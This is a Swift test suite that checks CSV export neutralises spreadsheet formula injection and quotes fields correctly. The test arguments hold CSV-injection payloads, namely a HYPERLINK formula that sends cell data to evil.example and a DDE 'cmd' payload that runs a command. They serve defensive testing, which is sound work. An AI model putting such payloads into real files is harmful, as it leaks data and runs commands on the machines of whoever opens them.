import Testing

@testable import AuditModel

@Suite struct CSVFormulaNeutralising {
    /// The OWASP rule: text starting with `=`, `+`, `-`, `@`, tab or carriage return gets a `'`
    /// in front, inside a quoted field.
    @Test(arguments: [
        ("=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1, \"\"click\"\")\""),
        ("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
        ("@SUM(1)", "\"'@SUM(1)\""),
        ("+1", "\"'+1\""),
        ("-1", "\"'-1\""),
        ("\t=1", "\"'\t=1\""),
        ("\r=1", "\"'\r=1\""),
        ("ООО «Ромашка»", "ООО «Ромашка»"),
        ("a=b", "a=b"),
        ("", ""),
    ])
    func textThatLooksLikeAFormulaIsQuotedAsText(text: String, written: String) {
        #expect(CSVFormat.excel.field(.text(text)) == written)
    }

    @Test func numbersTheToolFormatsStayNumbers() {
        #expect(CSVFormat.comma.line([.text("=1+1"), .formatted("-12.5"), .formatted("+7")]) == "\"'=1+1\",-12.5,+7\n")
    }

    @Test func quotingFollowsTheDelimiter() {
        #expect(CSVFormat.comma.field(.text("a,b")) == "\"a,b\"")
        #expect(CSVFormat.comma.field(.text("a;b")) == "a;b")
        #expect(CSVFormat.excel.field(.text("a;b")) == "\"a;b\"")
        #expect(CSVFormat.excel.field(.text("two\nlines")) == "\"two\nlines\"")
        #expect(CSVFormat.excel.field(.text("say \"hi\"")) == "\"say \"\"hi\"\"\"")
    }

    /// A quote or delimiter followed by a combining mark is one `Character` but still a quote
    /// or a delimiter to a CSV reader, which reads bytes.
    @Test func aQuoteBeforeACombiningMarkIsStillDoubled() {
        #expect(CSVFormat.excel.field(.text("a\"\u{301}b")) == "\"a\"\"\u{301}b\"")
        #expect(CSVFormat.excel.field(.text("a;\u{301}b")) == "\"a;\u{301}b\"")
    }

    @Test(arguments: ["=1", "'=1", "''=1", "'", "'abc", "-", "plain", "'+", "@", ""])
    func restoringGivesBackExactlyTheOriginal(text: String) {
        #expect(CSVFormat.restoringNeutralised(CSVFormat.neutralised(text)) == text)
    }
}
